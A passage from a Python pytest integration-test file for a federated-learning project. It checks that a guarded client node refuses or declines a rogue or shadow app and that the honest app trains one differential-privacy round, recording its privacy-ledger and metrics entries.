            [record] = [r for r in journal.records() if r["event"] == "refused"]
            assert record["app"] == "mallory/rogue-app 1.0.0"
            line = wait_for(guarded, rf"{GUARD_PREFIX}: refused app mallory/rogue-app[^\n]*", 60)
            print(f"[rogue] ecrec-client console: {line.group(0)}")
            assert "its clientapp is 'rogue_app.client_app:app'" in line.group(0)
        else:  # accepted as ours: the installed ecrec app ran, and its policy declined
            assert "ecrec-decline" in error and "federation.secagg" in error
            declined = [r for r in journal.records() if r["event"] == "declined"]
            assert declined and "federation.secagg" in declined[-1]["reason"]
            line = wait_for(guarded, r"round \d+: declined: federation\.secagg[^\n]*", 60)
            print(f"[shadow] ecrec-client console: {line.group(0)}")
    assert not any(markers.glob("*.imported"))  # the shadow's modules ran only on the plain node
    assert not (fed.root / "ecrec-client.flwr-home" / "apps").exists()  # no FAB ever unpacked
    assert (fed.root / "plain-supernode.flwr-home" / "apps").is_dir()

    assert fed.procs.stop(guarded) == 128 + signal.SIGTERM
    assert "stopped by SIGTERM; the SuperNode has shut down" in guarded.text()


@pytest.mark.slow
@pytest.mark.timeout(1500)
def test_the_honest_ecrec_app_trains_through_the_guard(
    federation: Federation, market: Marketplace
) -> None:
    """The project app as ``flwr run`` submits it (ServerApp from the FAB on the server's
    side; the node runs its installed ClientApp): one DP round, no SecAgg+, one node."""
    fed = federation
    write_marketplace(market, fed.root / "data")
    data = fed.root / "data/merchant_m00.parquet"
    policy = fed.root / "policy.toml"
    policy.write_text("[policy]\nrequire-secagg = false\nmin-trainers = 1\n")
    config = tomllib.loads((PROJECT / "configs/tiny.toml").read_text())
    config["federation"].update(rounds=1, secagg=False, **{"min-clients": 1, "min-trainers": 1})
    config_file = fed.root / "one-node.toml"
    config_file.write_text(tomli_w.dumps(config))
    node = fed.ecrec_client(
        "ecrec-client", data, "--policy", str(policy), "--init-ledger", "--connect-timeout", "120"
    )
    wait_for(node, r"as SuperNode (\d+)", 180)
    run_dir = fed.root / "run"
    fed.flwr_run(
        PROJECT,
        {
            "config-file": str(config_file),
            "run-dir": str(run_dir),
            "validation-path": str(fed.root / "data/validation.parquet"),
        },
    )
    line = wait_for(node, r"round 1: (trained|declined)[^\n]*", 900).group(0)
    print(f"ecrec-client console: {line}")
    assert line.startswith("round 1: trained (ε "), node.text()[-3000:]
    records = NodeJournal(default_journal(data)).records()
    assert [r["event"] for r in records] == ["trained"], records
    assert records[0]["round"] == 1 and records[0]["epsilon_spent"] > 0
    from ecrec.privacy.ledger import PrivacyLedger

    key = default_key_file(default_ledger(data))
    ledger = PrivacyLedger.load(default_ledger(data), key_file=key)
    assert ledger.rounds == [1]
    assert ledger.spent_epsilon() == pytest.approx(records[0]["epsilon_spent"])
    metrics = run_dir / "metrics.jsonl"
    deadline = time.monotonic() + 300
    while '"round": 1' not in (metrics.read_text() if metrics.exists() else ""):
        assert time.monotonic() < deadline, "the server recorded no round 1"
        time.sleep(1)
    round_one = [json.loads(ln) for ln in metrics.read_text().splitlines()][-1]
    assert round_one["round"] == 1 and round_one["clients"] == 1, round_one
    assert GUARD_PREFIX not in node.text()
    assert not (fed.root / "ecrec-client.flwr-home" / "apps").exists()
